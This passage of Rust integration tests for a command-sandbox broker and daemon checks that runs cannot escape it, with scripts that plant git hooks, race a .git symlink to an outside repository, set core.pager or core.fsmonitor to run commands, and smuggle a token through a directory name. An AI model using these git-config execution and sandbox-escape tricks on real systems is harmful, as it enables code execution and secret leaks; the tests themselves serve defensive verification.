            let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", script]).output().expect("run");
            assert!(stdout(&o).contains("ran"), "the run happened: {}", text(&o));
            assert!(!env.ws.join(".husky/pre-commit").exists(), "nobody={nobody}: a hook was planted: {}", text(&o));
            assert_eq!(
                std::fs::read_to_string(env.ws.join(".husky/commit-msg")).expect("r"),
                "#!/bin/sh\nexit 0\n",
                "nobody={nobody}: {}",
                text(&o)
            );
        }
    }
}

// Root daemon, uid 65534 client by nature: what a privileged daemon shows another user.
sandbox_test! {
    fn a_daemon_never_lists_for_a_client_a_directory_the_client_cannot_read() {
        // Attack on issue 22 item 1: the snapshot reads file contents with the client's
        // identity (`Tree::read_as`), but walks and lists the workspace as the daemon (root).
        // A uid 65534 client naming a directory it cannot read as its workspace (`exec --cwd`)
        // got the names of the files inside back in the snapshot's `skipped` list.
        let env = Env::new("daemon-list");
        let d = Daemon::start(&env, "standard", &[]);
        std::fs::set_permissions(&d.socket, std::fs::Permissions::from_mode(0o666))
            .expect("chmod socket");
        let secret = env.outside.join("private");
        std::fs::create_dir_all(secret.join("sub")).expect("mkdir");
        std::fs::write(secret.join("sub/name-of-a-secret-file.txt"), "TOPSECRET\n").expect("w");
        std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o700)).expect("chmod");
        std::fs::set_permissions(&env.root, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        std::fs::set_permissions(&env.outside, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        let o = env
            .raw("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups", BIN, "--json", "exec", "--cwd"])
            .arg(&secret)
            .args(["--", "true"])
            .env("GATEWAY_SOCKET", &d.socket)
            .stdin(Stdio::null())
            .output()
            .expect("setpriv");
        assert!(o.status.code().is_some(), "{}", text(&o));
        assert_ne!(o.status.code(), Some(0), "a workspace the client cannot open is refused: {}", text(&o));
        assert!(text(&o).contains("cannot be opened by uid 65534"), "{}", text(&o));
        assert!(
            !text(&o).contains("name-of-a-secret-file"),
            "the daemon listed a directory uid 65534 cannot read: {}",
            text(&o)
        );
    }
}

sandbox_test! {
    fn quarantine_never_acts_outside_through_a_racing_git_link() {
        // Issue 22 item 2, raced: after each run the broker moves away protected paths the run
        // created (`.git/hooks/...`, `.git/config`). For 10 seconds a thread swaps `.git` between a real directory and a link to
        // another repository's git directory outside the workspace while runs plant hooks;
        // the outside repository must never lose or change a file.
        for nobody in [false, true] {
            let env = Env::new("quarantine-race");
            let victim = env.outside.join("victim.git");
            std::fs::create_dir_all(victim.join("hooks")).expect("victim");
            std::fs::write(victim.join("config"), "[core]\n\tvictim = true\n").expect("w");
            std::fs::write(victim.join("hooks/pre-commit"), "victim hook\n").expect("w");
            std::fs::write(victim.join("commondir"), "victim\n").expect("w");
            env.write(".git/HEAD", "ref: refs/heads/main\n");
            env.write(".git/config", "[core]\n");
            if nobody {
                env.give_to_nobody();
            }
            let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
            let (ws, v, s2) = (env.ws.clone(), victim.clone(), stop.clone());
            let swapper = std::thread::spawn(move || {
                while !s2.load(std::sync::atomic::Ordering::Relaxed) {
                    let _ = std::fs::rename(ws.join(".git"), ws.join(".git.real"));
                    let _ = std::os::unix::fs::symlink(&v, ws.join(".git"));
                    std::thread::yield_now();
                    let _ = std::fs::remove_file(ws.join(".git"));
                    let _ = std::fs::rename(ws.join(".git.real"), ws.join(".git"));
                }
            });
            let until = std::time::Instant::now() + std::time::Duration::from_secs(10);
            let mut runs = 0;
            while std::time::Instant::now() < until {
                let script = "mkdir -p .git/hooks 2>/dev/null; echo evil > .git/hooks/post-checkout 2>/dev/null; echo '[core]' > .git/config.worktree 2>/dev/null; true";
                let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", script]).output().expect("run");
                assert!(o.status.code().is_some(), "{}", text(&o));
                runs += 1;
            }
            stop.store(true, std::sync::atomic::Ordering::Relaxed);
            swapper.join().expect("join");
            assert_eq!(std::fs::read_to_string(victim.join("config")).expect("victim config"), "[core]\n\tvictim = true\n", "nobody={nobody} after {runs} runs");
            assert_eq!(std::fs::read_to_string(victim.join("hooks/pre-commit")).expect("victim hook"), "victim hook\n", "nobody={nobody}");
            assert_eq!(std::fs::read_to_string(victim.join("commondir")).expect("victim commondir"), "victim\n", "nobody={nobody}");
            let mut files = Vec::new();
            walk(&victim, &mut files);
            files.sort();
            assert_eq!(files, [victim.join("commondir"), victim.join("config"), victim.join("hooks/pre-commit")], "nobody={nobody}: nothing added, nothing moved away");
            assert!(runs > 3, "only {runs} runs");
        }
    }
}

sandbox_test! {
    fn a_bare_repository_planted_in_a_subdirectory_is_not_left_for_git() {
        // Second attack on issue 22's fix: git's discovery takes a directory holding `HEAD`,
        // `objects/` and `refs/` for a (bare) git directory before it looks further up, and
        // reads its `config` (`safe.bareRepository` defaults to `all`). Only `.git` entries
        // are searched, so a run that writes `sub/{HEAD,objects,refs,config}` runs its
        // `core.pager` (or an alias, `core.fsmonitor` with `core.worktree`) at the user's
        // next `git log` in `sub/`.
        for nobody in [false, true] {
            let env = Env::new("bare-sub");
            env.write(".git/HEAD", "ref: refs/heads/main\n");
            env.write(".git/config", "[core]\n\tbare = false\n");
            std::fs::create_dir_all(env.ws.join(".git/objects")).expect("mkdir");
            std::fs::create_dir_all(env.ws.join(".git/refs")).expect("mkdir");
            if nobody {
                env.give_to_nobody();
            }
            let script = "mkdir -p sub/objects sub/refs && echo 'ref: refs/heads/main' > sub/HEAD && printf '[core]\\n\\tpager = touch /tmp/pwned; less\\n' > sub/config; echo ran";
            let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", script]).output().expect("run");
            assert!(stdout(&o).contains("ran"), "the run happened: {}", text(&o));
            // Git as the workspace's owner (it ignores a repository another user owns).
            let mut g = env.raw("setpriv");
            if nobody {
                g.args(["--reuid=65534", "--regid=65534", "--clear-groups"]);
            }
            let g = g
                .current_dir(env.ws.join("sub"))
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .args(["--", "git", "config", "core.pager"])
                .output()
                .expect("git");
            assert!(g.status.success() || g.stdout.is_empty() && g.stderr.is_empty(), "git: {}", text(&g));
            assert!(
                !String::from_utf8_lossy(&g.stdout).contains("pwned"),
                "nobody={nobody}: git in sub/ reads a pager the run chose: {}",
                text(&o)
            );
        }
    }
}

escape_test! {
    fn a_run_that_makes_more_directories_than_are_searched_cannot_plant_a_repository_silently() {
        // Second attack on issue 22's fix: nested `.git` entries were searched in at most
        // 100,000 directories, depth first in name order — also after the run. A run that
        // creates 100,001 directories under `aaaa/` and then `zzz/.git/config` hid it from
        // that search, and (issue 34) a warning was all that said so. After a run whose
        // search before it was complete, every directory is searched: the planted repository
        // is quarantined. (Issue 37: a run the overlay captures is judged from what it wrote,
        // with no search — `capture_places` tests it; the search, and its bound, are what a
        // run the overlay does not capture has: that run is tested here.)
        let env = Env::new("many-dirs");
        let policy = env.policy_file("extends = \"standard\"\n\n[undo]\nsnapshot = false\ncapture = \"walk\"\n");
        let script = "mkdir aaaa && cd aaaa && seq 1 100001 | xargs mkdir && cd .. && mkdir -p zzz/.git/objects zzz/.git/refs && echo 'ref: refs/heads/main' > zzz/.git/HEAD && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > zzz/.git/config; echo ran";
        let o = env.sh(&policy, script);
        assert!(stdout(&o).contains("ran"), "the run happened: {}", text(&o));
        assert!(!env.ws.join("zzz/.git/config").exists(), "a planted config stayed: {}", text(&o));
        assert!(stderr(&o).contains("created protected path"), "{}", text(&o));
    }
}

sandbox_test! {
    fn a_tree_too_large_to_search_for_repositories_refuses_the_run() {
        // Issue 34: a writable tree with more directories than the search for nested
        // repositories lists (100,000) ran with a warning: a repository deeper in it had a
        // writable config and hooks, and one the command planted there was not found. Now the
        // run is refused (exit 125), naming the tree and what to do; `best_effort` runs it
        // and says what was not protected.
        let env = Env::new("tree-too-large");
        env.write(".git/HEAD", "ref: refs/heads/main\n");
        env.write(".git/config", "[core]\n");
        let many = env.ws.join("aaaa");
        std::fs::create_dir(&many).expect("mkdir");
        for i in 0..100_001 {
            std::fs::create_dir(many.join(i.to_string())).expect("mkdir");
        }
        env.write("zzz/lib/.git/config", "[core]\n");
        let o = env.sh("standard", "echo '[core] fsmonitor = evil' >> zzz/lib/.git/config; echo ran");
        let t = text(&o);
        assert_eq!(o.status.code(), Some(125), "{t}");
        assert!(!stdout(&o).contains("ran"), "{t}");
        assert!(t.contains(&env.ws.display().to_string()) && t.contains("more than 100000 directories"), "names the tree: {t}");
        assert!(t.contains("--cwd") && t.contains("best_effort"), "says what to do: {t}");
        assert_eq!(std::fs::read_to_string(env.ws.join("zzz/lib/.git/config")).expect("r"), "[core]\n");
        // Recorded as a run that could not be set up.
        let recs = log_records(&env);
        assert!(recs.last().is_some_and(|r| r["exit_code"].is_null()), "{recs:?}");
        // A subdirectory is small enough.
        let o = env.cmd().args(["exec", "--policy", "standard", "--cwd", "zzz", "--", "sh", "-c", "echo ran"]).output().expect("run");
        assert!(stdout(&o).contains("ran"), "{}", text(&o));
        // Best effort: it runs, and says that nested repositories were not all protected.
        std::fs::write(env.outside.join("be.toml"), "extends = \"standard\"\n[sandbox]\nbest_effort = true\n").expect("policy");
        let o = env.cmd().arg("--policy").arg(env.outside.join("be.toml")).args(["exec", "--", "sh", "-c", "echo ran"]).output().expect("run");
        assert!(stdout(&o).contains("ran"), "{}", text(&o));
        assert!(stderr(&o).contains("were not all found"), "{}", text(&o));
    }
}

sandbox_test! {
    fn a_planted_config_cannot_make_the_broker_move_away_what_the_run_could_not_write() {
        // Second attack on issue 22's fix: after the run, the config of every git directory
        // found is read and what it includes or names is "protected"; what was not protected
        // before the run counts as created by it and is quarantined. A run plants
        // `x/.git/config` including the user's `.git/hooks/pre-commit` (a secret scanner, read-only
        // to the run) and `.vscode/settings.json`: the broker moves both out of the
        // workspace on the run's behalf, saying the command created them.
        for nobody in [false, true] {
            let env = Env::new("planted-refs");
            env.write(".git/HEAD", "ref: refs/heads/main\n");
            env.write(".git/config", "[core]\n\tbare = false\n");
            env.write(".git/hooks/pre-commit", "#!/bin/sh\nexec scan-for-secrets\n");
            env.write(".vscode/settings.json", "{}\n");
            if nobody {
                env.give_to_nobody();
            }
            let script = "mkdir -p x/.git && printf '[include]\\n\\tpath = ../../.git/hooks/pre-commit\\n[core]\\n\\tfsmonitor = ../.vscode/settings.json\\n' > x/.git/config; echo ran";
            let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", script]).output().expect("run");
            assert!(stdout(&o).contains("ran"), "the run happened: {}", text(&o));
            for (f, content) in [(".git/hooks/pre-commit", "#!/bin/sh\nexec scan-for-secrets\n"), (".vscode/settings.json", "{}\n")] {
                assert_eq!(
                    std::fs::read_to_string(env.ws.join(f)).ok().as_deref(),
                    Some(content),
                    "nobody={nobody}: {f} was moved away: {}",
                    text(&o)
                );
            }
        }
    }
}

escape_test! {
    fn a_secret_in_a_quarantined_name_is_redacted() {
        // Second attack on issue 22's fix: names are redacted where the file tools and
        // history show them, but the quarantine messages (stderr, `--json`'s
        // `protected_created`) print the path raw: a run that names a directory after a token
        // it read and plants `TOKEN/.git/config` gets the broker to print the token past the
        // output guard.
        let env = Env::new("quarantine-names");
        let tok = gh_token(91);
        // Built in the shell: a token in the command line is refused before the run.
        let script = format!("T=gh; T=${{T}}{}; mkdir -p $T/.git && echo x > $T/.git/config; echo ran", &tok[2..]);
        for json in [false, true] {
            let mut c = env.cmd();
            if json {
                c.arg("--json");
            }
            let o = c.args(["exec", "--policy", "standard", "--", "sh", "-c", &script]).output().expect("run");
            assert!(text(&o).contains("ran"), "the run happened: {}", text(&o));
            assert!(!text(&o).contains(&tok), "json={json}: the token is shown: {}", text(&o));
        }
    }
}

// uid 65534 daemon by nature, running a policy without namespaces.
sandbox_test! {
    fn a_daemon_serving_uid_65534_says_when_a_runs_leftovers_outlive_it() {
        // Issue 25 item 3, the layer that cannot guarantee it: a run without a pid namespace
        // (since issue 34 only a policy that turns namespaces off, or best effort on a host
        // that refuses them), in a daemon running as uid 65534 with another run in progress,
        // cannot kill what it left when it ends (the other run's processes are its children
        // too). It must say so — in the result and on stderr — and kill them when the last
        // run ends.
        let env = Env::new("leftover-daemon");
        let no_ns = env.policy_file("extends = \"standard\"\n[sandbox]\nnamespaces = false\nbest_effort = true\n");
        env.give_to_nobody();
        let socket = env.root.join("gw.sock");
        let mut d = env
            .nobody()
            .args(["serve", "--policy", &no_ns, "--socket"])
            .arg(&socket)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("serve");
        let up = (0..500).any(|_| {
            std::thread::sleep(std::time::Duration::from_millis(10));
            std::os::unix::net::UnixStream::connect(&socket).is_ok()
        });
        assert!(up, "the daemon did not listen");
        let client = |args: &[&str]| {
            let (script, flags) = args.split_last().expect("script");
            env.nobody()
                .env("GATEWAY_SOCKET", &socket)
                .args(flags)
                .args(["exec", "--", "sh", "-c", script])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("client")
        };
        // The run in progress is in another workspace: a run's snapshot holds its own
        // workspace's capture lock (`journal::capture`), so two in one workspace do not overlap.
        let long = {
            env.nobody()
                .current_dir(&env.outside)
                .env("GATEWAY_SOCKET", &socket)
                .args(["exec", "--", "sh", "-c", "sleep 4"])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("client")
        };
        std::thread::sleep(std::time::Duration::from_millis(500));
        let leave = "setsid -f sh -c 'trap \"\" TERM HUP; sleep 8; echo evil > late.txt' </dev/null >/dev/null 2>&1; echo left";
        let json = client(&["--json", leave]).wait_with_output().expect("client");
        let plain = client(&[leave]).wait_with_output().expect("client");
        let long = long.wait_with_output().expect("client");
        std::thread::sleep(std::time::Duration::from_secs(8));
        let _ = d.kill();
        let _ = d.wait();
        let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap_or_default();
        assert_eq!(v["ran"], true, "the run happened: {}", text(&json));
        assert!(v["leftovers_killed"].is_null(), "{v}");
        assert!(
            v["leftovers_warning"].as_str().is_some_and(|w| w.contains("last of those")),
            "the result says so: {v}"
        );
        assert!(stdout(&plain).contains("left"), "the run happened: {}", text(&plain));
        assert!(stderr(&plain).contains("killed when the last of those"), "stderr says so: {}", text(&plain));
        assert!(long.status.success(), "{}", text(&long));
        assert!(!env.ws.join("late.txt").exists(), "the leftover was killed when the last run ended");
    }
}
